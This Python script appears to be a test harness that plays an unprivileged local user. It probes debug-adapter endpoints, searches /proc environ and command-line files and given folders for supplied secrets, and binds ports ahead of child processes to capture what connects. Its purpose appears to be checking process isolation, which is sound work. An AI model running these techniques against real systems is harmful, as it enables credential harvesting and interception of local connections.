"""Another user of the machine, who tries what the kernel lets them. Run as root; it gives its rights away.

    python neighbour.py poke < JSON     connects to endpoints, reads files and command lines; prints what it got
    python neighbour.py steal PID       takes the ports that the children of a process are told, till stdin ends

Standard library only, and all of it loaded before: the interpreter may lie where they may not read.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import select
import socket
import sys
from pathlib import Path
from typing import Any

NOBODY = 65534
SECONDS = 1.5
"""For one connection to say something."""
GREETING = b'{"seq":1,"type":"request","command":"initialize","arguments":{"adapterID":"x"}}'
PORT = re.compile(rb"\b([1-6]\d{4})\b")


def main() -> None:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    if sys.argv[1] == "poke":
        sys.stdout.write(json.dumps(poke(json.load(sys.stdin))))
    else:
        steal(int(sys.argv[2]))


def poke(given: dict[str, Any]) -> list[str]:
    """Try all endpoints and files; return what should not have been got."""
    got = [f"{where}: {said!r}" for where in given["endpoints"] if (said := greeted(where))]
    secrets = [secret.encode() for secret in given["secrets"]]
    for path in readable(given["folders"], given["pids"]):
        with contextlib.suppress(OSError):
            content = Path(path).read_bytes()
            got += [f"{path} has {secret!r}" for secret in secrets if secret in content]
    return got


def greeted(where: list[Any]) -> bytes:
    """Connect, say hello as a debugger does, and return what is answered; an HTTP server's refusal is nothing."""
    family = socket.AF_UNIX if where[0] == "unix" else socket.AF_INET
    address = where[1].replace("@", "\0", 1) if where[0] == "unix" else ("127.0.0.1", where[1])
    with socket.socket(family) as client, contextlib.suppress(OSError):
        client.settimeout(SECONDS)
        client.connect(address)
        client.sendall(b"Content-Length: %d\r\n\r\n%b" % (len(GREETING), GREETING))
        said = client.recv(4096)
        return b"" if said.startswith(b"HTTP/1.") else said
    return b""


def readable(folders: list[str], pids: list[int]) -> list[str]:
    """Return the files that might tell something."""
    found = [f"/proc/{pid}/{name}" for pid in pids for name in ("environ", "cmdline", "maps")]
    for folder in folders:
        for where, _, names in os.walk(folder):
            found += [os.path.join(where, name) for name in names]  # noqa: PTH118 - as os.walk has it
    return found


def steal(server: int) -> None:
    """Listen at every port that stands on a command line of a child, before the child does."""
    tried: set[int] = set()
    thefts: list[socket.socket] = []
    while not select.select([sys.stdin], [], [], 0)[0]:
        for pid in below(server):
            with contextlib.suppress(OSError):
                for port in PORT.findall(Path(f"/proc/{pid}/cmdline").read_bytes()):
                    take(int(port), tried, thefts)
        for listener in select.select(thefts, [], [], 0.001)[0]:
            rob(listener)
    sys.stdout.write("done\n")


def take(port: int, tried: set[int], thefts: list[socket.socket]) -> None:
    if port in tried:
        return
    tried.add(port)
    listener = socket.socket()
    try:
        listener.bind(("127.0.0.1", port))
        listener.listen()
    except OSError:
        listener.close()
    else:
        thefts.append(listener)
        sys.stdout.write(f"took {port}\n")


def rob(listener: socket.socket) -> None:
    victim, _ = listener.accept()
    with victim, contextlib.suppress(OSError):
        victim.settimeout(SECONDS)
        if said := victim.recv(4096):
            sys.stdout.write(f"stolen {said[:200]!r}\n")


def below(pid: int) -> list[int]:
    """Return the processes below a process."""
    found = [pid]
    for each in found:
        with contextlib.suppress(OSError):
            for task in os.listdir(f"/proc/{each}/task"):  # noqa: PTH208
                children = Path(f"/proc/{each}/task/{task}/children").read_bytes()
                found += [int(child) for child in children.split()]
    return found[1:]


if __name__ == "__main__":
    main()
